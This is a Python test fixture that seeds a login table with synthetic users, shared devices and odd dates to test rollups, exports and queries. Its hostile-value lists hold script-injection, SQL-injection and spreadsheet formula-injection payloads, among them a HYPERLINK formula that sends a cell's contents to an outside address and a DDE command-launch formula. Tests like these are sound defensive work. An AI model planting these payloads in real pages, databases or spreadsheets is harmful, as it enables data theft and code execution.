"""Logins with groups to find, and with values that attack a page, a CSV file or a query."""

from collections.abc import Iterator
from datetime import date, timedelta

import psycopg

from dev.logins import Row, token

SALT = "the tests have no secrets, so this salt is public"
# The latest day with logins. It is in the past, so the rollups do not depend on the clock.
THROUGH = date(2026, 3, 17)
DAYS = 40

# The text that a script in a hostile value would put into the page's title.
SCRIPT_RAN = "a script ran"

HOSTILE_USERS = [
    f'<script>document.title="{SCRIPT_RAN}"</script>',
    f'"><img src=x onerror=\'document.title="{SCRIPT_RAN}"\'>',
    "</title></style></svg><style>*{display:none}</style>",
    "javascript:alert(1)//{{7*7}}${7*7}#{7*7}%s",
    "'; DROP TABLE user_logins; --",
    "$$; SELECT pg_sleep(60); --\\",
    "\\'; SELECT 1; --",
    '=HYPERLINK("http://203.0.113.1/?"&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    'comma, "quote"\nand a line',
    "\u202e\u2066gnp.exe",
    "zero\u200bwidth\ufeff",
    "\x01\x1b[31m\x7f\x85\u2028",
    "&lt;b&gt;&amp;#x3c;",
    "a b/../?c=d#e%2f%00",
    "null",
    "x" * 128,
    "ü" * 128,
    "😀" * 128,
]
HOSTILE_LOCALES = [
    "<svg onload=alert(1)>",
    "=1+1",
    "+1",
    "-1",
    "@a",
    '","x',
    "'--",
    "",
    "w" * 32,
    "\u202eRU",
]
HOSTILE_TYPES = ["<b>bold</b>", "=cmd|' /C calc'!A0", "y" * 32]

# No rollup counts these days, and none may make a rollup or a query fail.
ODD_DAYS = [None, "infinity", "-infinity", "10000-01-01", "0001-12-31 BC", "5874897-12-31"]
# A table that is older than login-etl may have raw values. No answer may show them.
RAW_ADDRESS, RAW_DEVICE = "203.0.113.99", "593-47-5928"


def device(name: str) -> str:
    """Return the token of a device."""
    return token(SALT, "device_id", name)


def address(name: str) -> str:
    """Return the token of an address."""
    return token(SALT, "ip", name)


HOSTILE_DEVICE = device("hostile")
HOSTILE_ADDRESS = address("hostile")
# More than 50 users share it, so it is a hub.
HUB_DEVICE = device("hub")
# Its neighbourhood has more nodes than a drawing may have.
CROWDED_DEVICE = device("crowded")
RING = sorted(device(name) for name in ("ring 0", "ring 1", "ring 2"))
RING_USERS = ["ring-0", "ring-1", "ring-2", "ring-3"]


def fill(database: psycopg.Connection) -> None:
    """Write the logins into an empty table."""
    with (
        database.cursor() as cursor,
        cursor.copy(f"COPY user_logins ({', '.join(Row._fields)}) FROM STDIN") as copy,
    ):
        for row in rows():
            copy.write_row(row)
        for day in ODD_DAYS:
            copy.write_row(
                (*_row(f"odd day {day}", HOSTILE_DEVICE, address("odd"), THROUGH)[:-1], day)
            )
    database.execute("ANALYZE user_logins")


def rows() -> Iterator[Row]:
    """Make the logins whose day is an ordinary day."""
    for number in range(400):
        yield _row(
            f"user-{number % 150}",
            device(f"own {number % 150}"),
            address(f"{number % 40}"),
            _day(number),
        )
    yield _row("older", RAW_DEVICE, RAW_ADDRESS, THROUGH)
    yield _row("older", device("older"), RAW_ADDRESS, THROUGH)
    yield _row(None, device("own 0"), address("0"), THROUGH)
    for number in range(60):
        yield _row(f"hub-{number}", HUB_DEVICE, address("carrier"), _day(number % 9))
    for number, user in enumerate(RING_USERS):
        for side in (0, 1):
            shared = device(f"ring {min(number + side, 2)}")
            yield _row(user, shared, address("ring"), _day(number + side))
    for number in range(40):
        yield _row(f"crowd-{number}", CROWDED_DEVICE, None, _day(3))
        for other in range(6):
            yield _row(f"crowd-{number}", device(f"crowd {number} {other}"), None, _day(other))
    for number, user in enumerate(HOSTILE_USERS):
        for locale in HOSTILE_LOCALES[number % 2 :: 2]:
            yield Row(
                user,
                HOSTILE_TYPES[number % 3],
                HOSTILE_ADDRESS,
                HOSTILE_DEVICE,
                locale,
                2_147_483_647,
                _day(number % 2),
            )


def _row(user: str | None, masked_device_id: str | None, masked_ip: str | None, day: date) -> Row:
    return Row(user, "android", masked_ip, masked_device_id, "RU", 2_003_000, day)


def _day(age: int) -> date:
    return THROUGH - timedelta(days=age % DAYS)
